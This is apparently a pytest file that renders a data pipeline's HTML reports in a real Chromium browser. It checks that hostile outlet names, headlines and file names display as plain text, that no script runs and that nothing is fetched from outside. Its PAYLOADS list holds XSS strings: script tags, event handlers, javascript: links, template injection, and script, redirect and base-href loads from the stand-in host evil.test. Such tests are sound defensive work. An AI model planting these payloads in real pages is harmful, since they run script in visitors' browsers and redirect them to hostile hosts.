"""The pages people open, in a real browser: hostile text is shown and never run, and nothing is fetched."""

import json
import os
import shutil
import subprocess
from dataclasses import dataclass, field
from urllib.parse import unquote, urlsplit

import pytest

PAYLOADS = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "\"><script src='https://evil.test/x.js'></script>",
    "' autofocus onfocus='window.owned=1' tabindex='1",
    "</title></style></textarea><script>window.owned=1</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'><base href='https://evil.test/'>",
    "<a href='javascript:window.owned=1' style='position:fixed'>x</a><link rel=stylesheet href=//evil.test>",
    "{{ cycler.__init__.__globals__ }}{% raw %}${window.owned=1}\N{RIGHT-TO-LEFT OVERRIDE}",
)
RUN_NAME = "20991231T000000000Z-<img src=x onerror=window.owned=1>"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
SCREENS = {"phone": (360, 800), "desktop": (1280, 900)}


@pytest.fixture(scope="session")
def browser_path():
    """A Chromium. CI installs one where it is missing, so that these tests run before any change lands.

    Nobody's own machine gets a browser by running tests, and the README promises that they pass with Python
    and pip alone: only there, without a browser, are they skipped.
    """
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found:
        return found
    if not os.environ.get("CI"):
        pytest.skip("no Chromium here; install one (apt-get install chromium) to run these tests too")
    subprocess.run(["apt-get", "update", "-qq"], check=True)
    subprocess.run(["apt-get", "install", "-y", "-qq", "chromium"], check=True)
    return shutil.which("chromium")


@pytest.fixture(scope="session")
def browser(browser_path):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox"])
        yield browser
        browser.close()


@dataclass
class Visit:
    """A page that is open, with what it asked for and complained about."""

    page: object
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def opens_quietly(self) -> bool:
        return not self.complaints and all(url.startswith("file:") for url in self.requests)


@pytest.fixture
def visit(browser):
    """Open a file as a person with that screen and theme would."""
    contexts = []

    def open_page(path, *, screen="desktop", theme="light"):
        width, height = SCREENS[screen]
        context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=theme)
        contexts.append(context)
        visit = Visit(context.new_page())
        visit.page.on("request", lambda request: visit.requests.append(request.url))
        visit.page.on("dialog", lambda dialog: visit.complaints.append(dialog.message))
        visit.page.on("pageerror", lambda error: visit.complaints.append(str(error)))
        visit.page.on(
            "console",
            lambda said: visit.complaints.append(said.text) if said.type in ("error", "warning") else None,
        )
        visit.page.goto(path.as_uri())
        return visit

    yield open_page
    for context in contexts:
        context.close()


@pytest.fixture(scope="session")
def hostile_reports(make_desk, tmp_path_factory):
    """The reports of one run whose outlets, headlines and file names, and of one whose name, are hostile."""
    desk = make_desk(tmp_path_factory.mktemp("hostile"))
    records = [record for number in range(len(PAYLOADS)) for record in tell_story(number)]
    desk.save("feed.jsonl", "".join(json.dumps(record) + "\n" for record in records))
    for payload in PAYLOADS:
        desk.save(f"{payload.replace('/', '-')}.txt", b"A page\0with a NUL\n")
    desk.save(f"{'w' * 200}.txt", b"\0")
    assert desk.run(gates_mode="report").run["status"] == "published"
    add_refused_run(desk)
    return desk.data_dir / "reports"


def tell_story(number):
    """Return a story that two outlets with hostile names run under a hostile headline."""
    payload = PAYLOADS[number]
    # words that no other of these stories has
    words = [
        "bcdfghklmn"[number] + vowel + end for vowel in "aeiou" for end in ("rden", "stel", "llow", "mper")
    ]
    sentences = [
        f"The {' '.join(words[start:])} {' '.join(words[:start])} was closed, the {payload} Post reports."
        for start in range(0, len(words), 3)
    ]
    body = "\n\n".join(sentences)
    for copy in ("Post", "Echo"):
        yield {
            "title": f"{payload} closes the {words[0]} {words[1]} {words[2]}",
            "text": body,
            "url": f"https://{copy.lower()}.example/2025/02/1{number}/pier-{number}-closed",
            "site_name": f"{payload} {copy}",
            "published": f"2025-02-1{number}T0{len(copy)}:00:00Z",
        }


def add_refused_run(desk):
    """Let a later run have been refused, with a name and a message that nobody would choose."""
    from flows.report import overview
    from flows.storage import history_schemas, lake
    from flows.storage.layout import DataDir

    data = DataDir(desk.data_dir)
    (run,) = lake.recent_runs(data, 1)
    refused = {**run, "run_id": RUN_NAME, "status": "refused", "message": " ".join(PAYLOADS)}
    lake.write_rows([refused], history_schemas.RUN, data.runs / "20991231T000000000Z-0000.parquet")
    overview.write_overview(data)


def find_owned(page):
    return page.evaluate(
        "() => [window.owned, document.querySelectorAll('script, img, iframe, base, link, object').length]"
    )


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("screen", list(SCREENS))
def test_the_overview_runs_and_fetches_nothing_and_anybody_can_read_it(hostile_reports, visit, screen, theme):
    from axe_playwright_python.sync_playwright import Axe

    visited = visit(hostile_reports / "index.html", screen=screen, theme=theme)
    page = visited.page
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    page.mouse.move(180, 400)
    assert find_owned(page) == [None, 0]
    assert visited.opens_quietly(), visited
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    found = Axe().run(page).response["violations"]
    assert not [
        (one["id"], [node["html"] for node in one["nodes"]])
        for one in found
        if one["impact"] in ("serious", "critical")
    ]


def test_hostile_text_is_on_the_overview_as_text(hostile_reports, visit):
    shown = visit(hostile_reports / "index.html").page
    for section in ("stories", "outlets", "quarantined"):
        text = shown.locator(f"#{section}").text_content()
        # a file name has no slash, and what turns the direction of text is replaced
        unseen = [one for one in PAYLOADS if one.replace("/", "-")[:-1] not in text.replace("/", "-")]
        assert not unseen, section
    notice = shown.locator(".notice").text_content()
    assert RUN_NAME in notice
    assert PAYLOADS[0] in notice


def test_every_link_of_the_overview_leads_somewhere(hostile_reports, visit):
    visited = visit(hostile_reports / "index.html")
    links = visited.page.eval_on_selector_all("a[href]", "all => all.map(one => one.getAttribute('href'))")
    assert {"data_docs/index.html", "dbt_docs.html"} < set(links)
    for link in links:
        parts = urlsplit(link)
        assert not parts.scheme
        assert not parts.netloc
        if parts.path:
            assert (hostile_reports / unquote(parts.path)).is_file()
        else:
            assert visited.page.locator(f"[id='{parts.fragment}']").count() == 1


def test_every_query_of_the_overview_can_be_copied_and_run(hostile_reports, visit):
    from flows.storage import reader
    from flows.storage.layout import DataDir

    texts = visit(hostile_reports / "index.html").page.locator("pre").all_text_contents()
    assert len(texts) > 15
    for text in texts:
        command, *sql, end = text.splitlines()
        assert (command, end) == ("sourceline query - <<'SQL'", "SQL")
        reader.query(DataDir(hostile_reports.parent), "\n".join(sql))


def test_the_keyboard_skips_to_the_figures_and_reaches_what_scrolls(hostile_reports, visit):
    page = visit(hostile_reports / "index.html", screen="phone").page
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "content"
    unreachable = "[...document.querySelectorAll('.scroll')].filter(one => one.tabIndex !== 0).length"
    assert page.evaluate(unreachable) == 0


def test_data_docs_run_and_fetch_nothing(hostile_reports, visit):
    pages = [
        hostile_reports / "data_docs" / "index.html",
        *sorted((hostile_reports / "data_docs" / "validations").rglob("*.html"))[:6],
    ]
    assert len(pages) > 2
    for path in pages:
        visited = visit(path)
        assert find_owned(visited.page) == [None, 0]
        assert visited.opens_quietly(), visited


def test_the_tables_are_described_in_one_file_that_fetches_nothing(hostile_reports, visit):
    visited = visit(hostile_reports / "dbt_docs.html")
    visited.page.get_by_text("sourceline", exact=True).and_(visited.page.locator(":visible")).first.wait_for()
    # dbt's page complains of icons of its own that it cannot find, so its complaints are not asked for
    assert all(url.startswith("file:") for url in visited.requests)
